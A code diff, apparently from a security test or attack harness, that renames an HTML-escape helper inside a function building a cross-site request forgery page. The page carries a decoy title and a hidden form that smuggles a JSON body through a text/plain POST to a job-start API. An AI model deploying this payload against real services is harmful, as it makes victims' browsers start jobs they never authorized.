@@ -352,10 +352,10 @@ async function attempt(run) {
   // A text/plain form sends `name=value`: the `=` goes inside a JSON string, so the body is valid JSON.
   const field = `${body.slice(0, -1)},"name":"`;
   const value = '"}';
-  const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
+  const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
   return `<!doctype html><html><head><meta charset="utf-8"><title>Totally harmless</title></head><body>
 <h1>Nothing to see here</h1>
-<form id="csrf" method="POST" action="${target}/api/jobs.start" enctype="text/plain"><input type="hidden" name="${escape(field)}" value="${escape(value)}"></form>
+<form id="csrf" method="POST" action="${target}/api/jobs.start" enctype="text/plain"><input type="hidden" name="${escapeHtml(field)}" value="${escapeHtml(value)}"></form>
 <script>${script}</script>
 </body></html>`;
 }
